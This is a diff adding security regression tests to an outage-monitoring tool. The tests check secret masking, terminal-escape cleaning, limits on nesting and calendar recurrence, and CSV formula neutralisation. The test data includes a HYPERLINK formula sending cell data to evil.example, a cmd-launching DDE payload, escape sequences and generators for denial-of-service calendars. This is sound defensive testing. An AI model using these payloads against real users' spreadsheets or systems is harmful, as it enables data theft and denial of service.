@@ -10,15 +10,21 @@ from __future__ import annotations
 
 import ast
 import base64
+import csv
+import functools
+import io
 import json
 import logging
 import os
+import re
 import subprocess
 import sys
 import textwrap
+import time
+import unicodedata
 from html.parser import HTMLParser
 from pathlib import Path
-from urllib.parse import quote_plus
+from urllib.parse import quote, quote_plus
 
 import pandas as pd
 import pytest
@@ -26,6 +32,8 @@ import yaml
 from reliability_support import FakeSMTP, Misbehave, always
 
 from monitor import alerts
+from monitor import http as monitor_http
+from monitor import text as monitor_text
 from monitor.cli import main
 from monitor.errors import MonitorError, SourceError
 from monitor.events.importer import import_events
@@ -531,3 +539,307 @@ def test_jupyter_service_is_bound_to_localhost_with_a_token():
                 assert arg.split("=", 1)[1].strip("'\"") not in ("", "None"), f"Jupyter auth switched off: {arg}"
         env = service.get("environment") or {}
         assert (env.get("JUPYTER_TOKEN") if isinstance(env, dict) else None) != "", "JUPYTER_TOKEN set to empty"
+
+
+# -- second review (issue 19): cut-offs, terminals, nesting, calendar bombs, NUL, paths, formulas -------
+def secret_runs(shown: str, secret: str) -> list[str]:
+    """Every run of 8 characters of `secret` (as sent, URL-encoded, base64) that `shown` contains."""
+    forms = {secret, quote_plus(secret), quote(secret, safe=""), base64.b64encode(secret.encode()).decode()}
+    return sorted({f[i:i + 8] for f in forms for i in range(len(f) - 7) if f[i:i + 8] in shown})
+
+
+@pytest.fixture
+def forget_secrets(monkeypatch):
+    """No process-wide memory of secrets: the HTTP layer's own masking is what is tested."""
+    monkeypatch.setattr(monitor_text, "_remembered", set())
+    monkeypatch.setattr(monitor_http, "remember_secret", lambda value: None)
+
+
+def _echo_after(offset: int, as_json: bool):
+    """A handler refusing with 403 and echoing the credential it got (header or form) after
+    `offset` characters of filler, in a JSON `error` or as plain text."""
+    from werkzeug.wrappers import Response
+
+    def handler(request):
+        sent = request.headers.get("Authorization", "") + " " + request.get_data(as_text=True)
+        text = "x" * offset + " " + sent
+        body = json.dumps({"error": text}) if as_json else text
+        return Response(body, status=403, content_type="application/json" if as_json else "text/plain")
+    return handler
+
+
+LONG_SECRET = "RIPEKEYMARKER-7f3a9c2e"
+FORM_SECRET = "p@ss/w0rd+&=ACLED-29chars-xyz"
+
+
+@pytest.mark.parametrize("as_json", [True, False], ids=["json error", "text body"])
+def test_secret_echoed_at_every_offset_around_the_cut_is_masked(httpserver, forget_secrets, as_json, figures):
+    """Issue 19 #1: the error text was cut at 200 characters before the secret was masked, so an
+    echo starting at 174 left 21 of 22 characters. Every offset from 0 to 260, for a header
+    credential (RIPE Atlas, Cloudflare) and a form-posted password (ACLED, URL-encoded)."""
+    cases, leaks = 0, []
+    for offset in range(0, 261):
+        httpserver.clear()
+        httpserver.expect_request("/x").respond_with_handler(_echo_after(offset, as_json))
+        for call, secret in ((lambda c: c.get_json(httpserver.url_for("/x")), LONG_SECRET),
+                             (lambda c: c.post_form(httpserver.url_for("/x"), {"username": "a@example.org",
+                                                                             "password": FORM_SECRET}),
+                              FORM_SECRET)):
+            headers = {"Authorization": f"Key {LONG_SECRET}"} if secret == LONG_SECRET else {}
+            client = HttpClient("ripe-atlas", retries=0, headers=headers)
+            with pytest.raises(SourceError) as raised:
+                call(client)
+            assert "request failed" in str(raised.value)
+            cases += 1
+            if secret_runs(str(raised.value), secret):
+                leaks.append((offset, str(raised.value)[-80:]))
+    figures.add(kind="secret", check=f"echo at offsets 0-260, {'JSON error' if as_json else 'text body'}",
+                cases=cases, leaked=len(leaks), detail=str(leaks[:1]))
+    assert not leaks, leaks[:3]
+
+
+@pytest.mark.parametrize("offset", [150, 174, 185, 196])
+@pytest.mark.parametrize("source,env", [("ripe-atlas", "RIPE_ATLAS_KEY"), ("cloudflare-radar", "CLOUDFLARE_API_TOKEN"),
+                                        ("acled", "ACLED_PASSWORD")])
+def test_secret_echoed_near_the_cut_reaches_no_output_log_or_record(source, env, offset, httpserver, store_url,
+                                                                    forget_secrets, capsys, caplog, monkeypatch):
+    """End to end, on SQLite and PostgreSQL: the CLI error, the log at debug level, `status`
+    (table and JSON) and the stored run record hold no 8 characters of the secret."""
+    secret = FORM_SECRET if source == "acled" else LONG_SECRET
+    monkeypatch.setenv(env, secret)
+    monkeypatch.setenv("ACLED_EMAIL", "a@example.org")
+    caplog.set_level(logging.DEBUG)
+    httpserver.expect_request(re.compile(".*")).respond_with_handler(_echo_after(offset, as_json=True))
+    if source == "acled":
+        argv = ["events", "import", httpserver.url_for("/acled"), "--format", "acled", "--country", "IR",
+                "--from", "2019-11-01", "--until", "2019-11-30"]
+    else:
+        argv = ["collect", source, "--entity", "country/IR", "--from", "2019-11-16", "--until", "2019-11-17",
+                "--base-url", httpserver.url_for("/api")]
+    assert main(["-vv", "--db", store_url, *argv]) in (1, 2)
+    main(["--db", store_url, "status"])
+    main(["--db", store_url, "status", "--format", "json"])
+    shown = capsys.readouterr()
+    store = open_store(store_url)
+    try:
+        runs = store.read_runs(limit=100).to_json(date_format="iso")
+    finally:
+        store.close()
+    assert "request failed" in shown.err + caplog.text
+    for where, text in (("output", shown.out), ("CLI error", shown.err), ("log", caplog.text), ("run record", runs)):
+        assert not secret_runs(text, secret), f"{source}: {where} holds {secret_runs(text, secret)}"
+
+
+def _only_safe_characters(out: str) -> list[str]:
+    return [f"U+{ord(c):04X}" for c in out if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf")
+            and c not in "\u200c\u200d"]
+
+
+def test_feed_titles_cannot_drive_the_terminal_in_correlate(tmp_path, capsys):
+    """Issue 19 #2: `correlate` printed event titles raw (an OSC title-set, a clear-screen, U+202E)."""
+    db = f"sqlite:///{tmp_path}/t.db"
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text("uid,country,start,end,kind,title,url\nh1,TJ,2020-09-16,2020-09-16,opposition_event,"
+                       f"\"Evil {ESCAPES}\u202e\x9b31m\",\n", encoding="utf-8")
+    assert main(["--db", db, "events", "import", str(REPO / "data" / "events" / "starter.csv")]) == 0
+    assert main(["--db", db, "events", "import", str(hostile)]) == 0
+    capsys.readouterr()
+    for fmt in ("table", "json"):
+        assert main(["--db", db, "correlate", "--outages", "starter", "--country", "TJ", "--format", fmt]) == 0
+        out = capsys.readouterr().out
+        assert "Evil" in out, "the hostile event should coincide and be shown"
+        assert not _only_safe_characters(out), (fmt, _only_safe_characters(out))
+
+
+def test_library_warnings_cannot_drive_the_terminal(tmp_path):
+    """Issue 19 #2: matplotlib's missing-glyph warnings quote the title's ESC, BEL and NUL. A real
+    `plot` process, with a hostile event on the chart: its stderr holds no control character."""
+    db = f"sqlite:///{tmp_path}/t.db"
+    hostile = tmp_path / "hostile.csv"
+    hostile.write_text("uid,country,start,end,kind,title,url\nh1,IR,2019-11-16,2019-11-16,protest,"
+                       f"\"Evil {ESCAPES}\x00\u202e\",\n", encoding="utf-8")
+    env = {**os.environ, "PYTHONPATH": str(REPO), "MPLBACKEND": "Agg"}
+    run = functools.partial(subprocess.run, capture_output=True, text=True, env=env, timeout=120)
+    assert run([sys.executable, "-m", "monitor", "--db", db, "demo"]).returncode == 0
+    assert run([sys.executable, "-m", "monitor", "--db", db, "events", "import", str(hostile)]).returncode == 0
+    done = run([sys.executable, "-m", "monitor", "--db", db, "plot", "--entity", "country/IR", "--from", "2019-11-14",
+                "--until", "2019-11-25", "--out", str(tmp_path / "p.png")])
+    assert done.returncode == 0, done.stderr[-500:]
+    assert not _only_safe_characters(done.stdout + done.stderr), done.stderr[-500:]
+
+
+def test_log_lines_from_any_library_are_sanitised(capsys):
+    """The CLI's handlers carry the sanitising filter; warnings.warn goes through logging too."""
+    import warnings
+
+    from monitor.cli import _setup_logging
+    root = logging.getLogger()
+    saved = root.handlers[:]
+    root.handlers = []
+    try:
+        with warnings.catch_warnings():  # pytest records warnings itself; let them reach logging here
+            warnings.simplefilter("always")
+            logging.captureWarnings(False)  # an earlier main() in this process may have captured them
+            _setup_logging(0)
+            logging.getLogger("matplotlib.font_manager").warning("findfont: %s", ESCAPES + "\x00")
+            warnings.warn("Glyph 27 (\x1b) missing from font(s) DejaVu Sans." + ESCAPES, UserWarning, stacklevel=1)
+            logging.captureWarnings(False)
+    finally:
+        for handler in root.handlers:
+            handler.flush()
+        root.handlers = saved
+    err = capsys.readouterr().err
+    assert "findfont" in err and "Glyph 27" in err
+    assert not _only_safe_characters(err), _only_safe_characters(err)
+
+
+def _deep(opener: str, closer: str, size: int) -> str:
+    depth = size // (len(opener) + len(closer))
+    return opener * depth + "1" + closer * depth
+
+
+@pytest.mark.parametrize("source", ["ioda", "ripe-atlas", "cloudflare-radar", "ripestat"])
+@pytest.mark.parametrize("nest", [("[", "]"), ('{"data":', "}")], ids=["lists", "objects"])
+def test_deeply_nested_answers_are_one_line_errors(source, nest, httpserver, tmp_path, capsys, monkeypatch):
+    """Issue 19 #3: a 400 kB answer of nested `[[[...]]]` was an uncaught RecursionError in `collect`."""
+    monkeypatch.setenv("CLOUDFLARE_API_TOKEN", "token-for-the-test")
+    httpserver.expect_request(re.compile(".*")).respond_with_data(_deep(*nest, 400_000),
+                                                                  content_type="application/json")
+    rc = main(["--db", f"sqlite:///{tmp_path}/t.db", "collect", source, "--entity", "country/IR", "--from",
+               "2019-11-16", "--until", "2019-11-17", "--base-url", httpserver.url_for("/")])
+    shown = capsys.readouterr()
+    assert rc == 1 and "Traceback" not in shown.out + shown.err
+    assert f"nested more than {monitor_text.MAX_JSON_DEPTH} levels deep" in shown.out + shown.err
+
+
+@pytest.mark.parametrize("fmt,body", [
+    ("acled", _deep("[", "]", 400_000)), ("acled", _deep('{"data":', "}", 400_000)),
+    ("yaml", "- " * 100_000 + "x\n"), ("yaml", _deep("[", "]", 200_000)), ("yaml", _deep("{a: ", "}", 200_000))],
+    ids=["acled lists", "acled objects", "yaml block", "yaml flow lists", "yaml flow maps"])
+def test_deeply_nested_files_are_one_line_errors(fmt, body, tmp_path, capsys):
+    """Issue 19 #3: the ACLED import and a 200 kB YAML nested 100,000 deep ended in RecursionError."""
+    path = tmp_path / f"deep.{'json' if fmt == 'acled' else 'yaml'}"
+    path.write_text(body, encoding="utf-8")
+    rc = main(["--db", f"sqlite:///{tmp_path}/t.db", "events", "import", str(path), "--format", fmt,
+               "--country", "IR"])
+    err = capsys.readouterr().err
+    assert rc == 2 and len(err.strip().splitlines()) == 1 and "nested more than" in err, err[-300:]
+
+
+CALENDAR_BOMBS = {
+    "10 x SECONDLY COUNT=9999 (1.7 kB)": ("FREQ=SECONDLY;COUNT=9999", 10),
+    "300 x SECONDLY COUNT=9999 (49 kB)": ("FREQ=SECONDLY;COUNT=9999", 300),
+    "10 x never matching (1.8 kB)": ("FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30", 10),
+    "300 x never matching, SECONDLY (49 kB)": ("FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30", 300),
+    "10 x BYSETPOS that never selects": ("FREQ=SECONDLY;BYSETPOS=2", 10),
+}
+
+
+def calendar_bomb(rule: str, events: int) -> str:
+    vevents = "".join(f"BEGIN:VEVENT\r\nUID:bomb-{i}\r\nDTSTART:20200101T000000Z\r\nDTEND:20200101T000001Z\r\n"
+                      f"SUMMARY:b\r\nRRULE:{rule}\r\nEND:VEVENT\r\n" for i in range(events))
+    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nX-COUNTRY:IR\r\n{vevents}END:VCALENDAR\r\n"
+
+
+@pytest.mark.parametrize("name", CALENDAR_BOMBS)
+def test_calendar_bombs_are_refused_within_10_s_and_500_mb(name, tmp_path, figures):
+    """Issue 19 #4: the occurrence cap was per UID, and a rule that never matches cost ~10 s of
+    CPU; 10 events took 51 s and 546 MB, 300 were killed at 300 s and 6 GB. A real `events
+    import` process over the importer's default window (1970 to a year ahead)."""
+    rule, events = CALENDAR_BOMBS[name]
+    path = tmp_path / "bomb.ics"
+    path.write_text(calendar_bomb(rule, events), encoding="utf-8")
+    assert path.stat().st_size <= 50_000
+    code = f"""
+        import resource, sys
+        from monitor.cli import main
+        rc = main(["--db", "sqlite:///{tmp_path}/t.db", "events", "import", "{path}"])
+        use = resource.getrusage(resource.RUSAGE_SELF)
+        # Peak memory of this process: VmHWM, not ru_maxrss, which Linux carries over exec from the
+        # forked parent (a pytest process that fuzzed for minutes showed its own 866 MB here).
+        peak = [int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM:")]
+        print("rc", rc, "maxrss_mb", (peak[0] if peak else use.ru_maxrss) // 1024, "cpu", use.ru_utime + use.ru_stime)
+    """
+    began = time.monotonic()
+    done = run_bounded(code, seconds=30)  # wall time only guards against a hang: the machine may be shared
+    seconds = time.monotonic() - began
+    assert done is not None, f"{name}: not done in 30 s"
+    rc, mb, cpu = done.stdout.split()[1], int(done.stdout.split()[3]), float(done.stdout.split()[5])
+    figures.add(kind="bomb", calendar=name, bytes=path.stat().st_size, seconds=round(seconds, 1), cpu=round(cpu, 1),
+                maxrss_mb=mb, exit=int(rc), detail=done.stderr.strip().split(".ics: ", 1)[-1])
+    assert rc == "2" and mb < 500 and cpu < 10, (done.stdout, done.stderr[-300:])
+    assert "ics_max_" in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr[-300:]
+
+
+def test_calendar_budget_is_configurable(tmp_path, capsys):
+    """[events] ics_max_occurrences lets a big calendar in (or keeps a small budget small)."""
+    path = tmp_path / "daily.ics"
+    path.write_text(calendar_bomb("FREQ=HOURLY;COUNT=50", 3), encoding="utf-8")
+    config = tmp_path / "monitor.toml"
+    config.write_text("[events]\nics_max_occurrences = 100\n", encoding="utf-8")
+    db = f"sqlite:///{tmp_path}/t.db"
+    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 2
+    assert "more than 100 occurrences" in capsys.readouterr().err
+    config.write_text("[events]\nics_max_occurrences = 150\n", encoding="utf-8")
+    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 0
+    config.write_text("[events]\nics_max_occurences = 1\n", encoding="utf-8")
+    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 2
+    assert "unknown key 'ics_max_occurences'" in capsys.readouterr().err
+
+
+def test_nul_and_controls_in_event_text_are_cleaned_on_the_way_in(store_url, tmp_path, capsys):
+    """Issue 19 #5: one NUL in a title failed the whole import on PostgreSQL, naming no row."""
+    ics = calendar_bomb("FREQ=DAILY;COUNT=1", 1).replace("SUMMARY:b", "SUMMARY:Strike\x00 day\x1b[2J\x08")
+    path = tmp_path / "nul.ics"
+    path.write_bytes(ics.encode("utf-8"))
+    for mode in ("--strict", "--skip-bad"):
+        assert main(["--db", store_url, "events", "import", str(path), mode]) == 0, capsys.readouterr().err
+    store = open_store(store_url)
+    try:
+        [title] = store.read_events()["title"].tolist()
+    finally:
+        store.close()
+    assert title == "Strike\ufffd day\ufffd[2J\ufffd"
+
+
+def test_a_frame_with_unstorable_text_is_refused_naming_the_row():
+    from monitor.events.model import validate_events
+    frame = pd.DataFrame([{"uid": "u1", "source": "nb", "kind": "other", "country": "IR", "region": None,
+                           "start": pd.Timestamp("2019-11-16", tz="UTC"), "end": pd.Timestamp("2019-11-17", tz="UTC"),
+                           "all_day": True, "title": "bad\x00title", "url": None, "description": None, "raw": None}])
+    with pytest.raises(MonitorError, match=r"event nb:u1 field title = 'bad\\x00title': holds NUL"):
+        validate_events(frame, "notebook")
+
+
+@pytest.mark.parametrize("command", [["status"], ["health"], ["signals", "export", "--entity", "country/IR"],
+                                     ["events", "list"], ["collect", "ioda", "--entity", "country/IR"]])
+def test_a_store_path_the_system_refuses_is_one_line(command, tmp_path, capsys):
+    """Issue 19 #6: a SQLite file name over 255 characters ended in an OSError traceback."""
+    rc = main(["--db", f"sqlite:///{tmp_path}/{'a' * 300}.db", *command])
+    err = capsys.readouterr().err
+    assert rc == 2 and len(err.strip().splitlines()) == 1 and "File name too long" in err, err[-300:]
+
+
+def test_csv_output_neutralises_spreadsheet_formulas(tmp_path, capsys):
+    """Issue 19 #7: `events list --format csv` wrote `=HYPERLINK(...)` titles as they were (OWASP)."""
+    db = f"sqlite:///{tmp_path}/t.db"
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+              "\t=1", " =1", "Ordinary = title"]
+    feed = tmp_path / "f.csv"
+    with feed.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["uid", "country", "start", "end", "kind", "title", "url"])
+        writer.writerows([f"u{i}", "IR", "2019-11-16", "2019-11-16", "protest", t, ""] for i, t in enumerate(titles))
+    assert main(["--db", db, "events", "import", str(feed)]) == 0
+    capsys.readouterr()
+    assert main(["--db", db, "events", "list", "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    rows = list(csv.DictReader(io.StringIO(out)))
+    shown = {r["uid"]: r["title"] for r in rows}
+    for i, title in enumerate(titles[:-1]):
+        assert shown[f"u{i}"].startswith("'") and shown[f"u{i}"].endswith(title.strip()), (title, shown[f"u{i}"])
+    assert shown["u6"] == "Ordinary = title"
+    for row in rows:
+        for cell in row.values():
+            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell[:1] == "'" or \
+                cell.replace("-", "").replace(":", "").replace("T", "").replace("+", "").isdigit(), cell
